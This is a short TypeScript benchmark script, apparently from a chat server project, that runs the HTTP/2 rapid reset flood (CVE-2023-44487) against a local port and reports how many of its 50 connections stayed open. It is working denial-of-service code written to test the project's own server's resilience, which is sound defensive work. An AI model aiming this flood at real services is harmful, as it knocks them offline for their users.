/**
 * `node --import tsx bench/rapid-reset.ts <port> [seconds]`: the HTTP/2 rapid
 * reset attack (CVE-2023-44487), in a process of its own so that it does not
 * slow the measuring one: 50 connections from 127.0.0.2 open streams and
 * reset them at once, as fast as they can. Prints what it managed as JSON.
 */
import { connectRawH2, grpcHeaders, type RawH2Client } from "../test/helpers/raw-h2-client.js";

const port = Number(process.argv[2]);
const seconds = Number(process.argv[3] ?? 5);
const clients: RawH2Client[] = [];
for (let i = 0; i < 50; i++) {
  try {
    clients.push(await connectRawH2(port, { localAddress: "127.0.0.2" }));
  } catch {
    // Refused.
  }
}
const rst = Buffer.alloc(4);
rst.writeUInt32BE(8);
const until = performance.now() + seconds * 1000;
let streams = 0;
while (performance.now() < until) {
  for (const c of clients) {
    if (c.socket.destroyed) continue;
    for (let k = 0; k < 100; k++) {
      const id = 1 + 2 * ((streams + k) % 1_000_000_000);
      c.request(id, grpcHeaders("/chat.v1.ChatService/ListChannels"), undefined, false);
      c.send(3, 0, id, rst);
    }
  }
  streams += 100;
  await new Promise((resolve) => setImmediate(resolve));
}
const open = clients.filter((c) => !c.socket.destroyed).length;
process.stdout.write(`${JSON.stringify({ connected: clients.length, open, streamsPerConnection: streams })}\n`);
for (const c of clients) c.destroy();
process.exit(0);
